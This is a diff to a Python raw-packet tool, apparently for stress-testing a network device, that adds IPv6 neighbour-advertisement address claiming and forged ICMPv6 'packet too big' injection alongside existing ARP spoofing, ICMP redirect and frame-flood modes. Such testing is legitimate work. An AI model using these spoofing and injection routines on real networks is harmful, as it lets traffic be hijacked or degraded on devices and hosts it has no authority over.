@@ -13,6 +13,9 @@ usage: hostile.py IFACE DEVICE_MAC MODE [ARGUMENT...]
   offer6 DEVICE_LL XID                                the same for DHCPv6
   arp VICTIM_IP DEVICE_IP                             claims VICTIM_IP with every form of ARP message, then floods the device
   advertise VICTIM_IP6 DEVICE_IP6                     the same for IPv6, with neighbour advertisements
+  claim DEVICE_IP6                                    claims DEVICE_IP6 with neighbour advertisements to all nodes
+  shrink MTU                                          answers the device's next IPv6 segments with "packet too big"; needs
+                                                      an interface that receives them
   redirect GATEWAY_IP DEVICE_IP                       ICMP redirects
   icmp DEVICE_IP                                      echo, timestamp, errors that quote sessions that do not exist
   garbage COUNT SEED                                  random frames of every ethertype
@@ -238,6 +241,31 @@ def advertise(link, victim, dev):
                 link.ip(ip_packet(src, dst, 58, icmp6(src, dst, 135, body)), to=to)
 
 
+def claim(link, dev):
+    """Sends the frames to the device only, so that they do not change the neighbour tables of other hosts."""
+    for flags in (0x00, 0x20):
+        for src in (dev, link_local(link.mac)):
+            body = struct.pack("!I16s", flags << 24, packed(dev)) + b"\2\1" + link.mac
+            link.ip(ip_packet(src, "ff02::1", 58, icmp6(src, "ff02::1", 136, body)))
+
+
+def shrink(link, mtu):
+    everything = 3  # ETH_P_ALL: a port of a bridge receives nothing else
+    link.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(everything))
+    link.sock.bind((sys.argv[1], everything))
+    link.sock.settimeout(20)
+    end = time.monotonic() + 20
+    while link.sent < 5:
+        if time.monotonic() > end:
+            sys.exit("no segment of the device")
+        frame = link.sock.recv(2048)
+        if frame[6:14] != link.device + b"\x86\xdd" or frame[20] != 6:
+            continue
+        dev, peer = (socket.inet_ntop(socket.AF_INET6, frame[at:at + 16]) for at in (22, 38))
+        body = struct.pack("!I", int(mtu)) + frame[14:14 + 1200]
+        link.ip(ip_packet(peer, dev, 58, icmp6(peer, dev, 2, body)))
+
+
 def redirect(link, gw, dev):
     me = "10.77.0.66"
     for src in (gw, me):
@@ -275,8 +303,8 @@ def main():
     if len(sys.argv) < 4:
         sys.exit(__doc__)
     link = Link(sys.argv[1], sys.argv[2])
-    modes = {f.__name__: f for f in (spoof, spoof_udp, fragments, extensions, options, advert, withdraw, offer, offer6, arp, advertise, redirect,
-                                     icmp, garbage)}
+    modes = {f.__name__: f for f in (spoof, spoof_udp, fragments, extensions, options, advert, withdraw, offer, offer6, arp, advertise, claim, shrink,
+                                     redirect, icmp, garbage)}
     modes[sys.argv[3]](link, *sys.argv[4:])
     print(link.sent, "frames")
 
